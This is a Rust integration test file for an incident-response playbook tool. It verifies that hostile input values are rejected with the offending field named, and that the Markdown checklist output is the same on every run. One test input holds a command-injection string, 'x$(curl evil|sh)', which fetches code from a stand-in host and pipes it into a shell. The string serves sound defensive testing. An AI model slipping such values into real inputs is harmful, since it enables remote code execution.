//! emergency-playbook through the `skill` binary: hostile values are refused
//! with the field that held them, and the Markdown rendering carries the
//! checklist and the status message, the same on every run.

use serde_json::{Value, json};
use skill_tests::{Skill, text};

fn run(input: &Value, format: &str) -> (bool, String, String) {
    let output = Skill::new()
        .command()
        .args([
            "run",
            "emergency-playbook",
            "--input",
            &input.to_string(),
            "--format",
            format,
        ])
        .output()
        .expect("run skill");
    let (stdout, stderr) = text(&output);
    (output.status.success(), stdout, stderr)
}

#[test]
fn hostile_values_are_refused_with_their_pointer() {
    let input = json!({
        "incident": "mass-revocation",
        "detected_at": "2026-06-01T09:30:00Z",
        "lease_prefixes": ["database/creds/app", "x$(curl evil|sh)"],
    });
    let (ok, stdout, stderr) = run(&input, "json");
    assert!(!ok, "hostile input accepted: {stdout}");
    assert!(stderr.contains("/lease_prefixes/1"), "{stderr}");
    assert!(!stdout.contains("curl"));
}

#[test]
fn markdown_has_checklist_and_status_message_deterministically() {
    let input = json!({
        "incident": "leaked-secret",
        "secret_kind": "vault-token",
        "detected_at": "2026-06-01T09:30:00Z",
        "exposure": "internal",
        "token_accessors": ["acc1"],
    });
    let (ok, first, stderr) = run(&input, "markdown");
    assert!(ok, "{stderr}");
    assert!(
        first.contains("# P1 — leaked Vault/OpenBao token"),
        "{first}"
    );
    assert!(
        first.contains("- [ ] **2.** Revoke the tokens by accessor"),
        "{first}"
    );
    assert!(first.contains("  vault token revoke -accessor acc1\n"));
    assert!(first.contains("```text\nIncident: leaked Vault/OpenBao token (P1)\n"));
    assert_eq!(run(&input, "markdown").1, first);
}
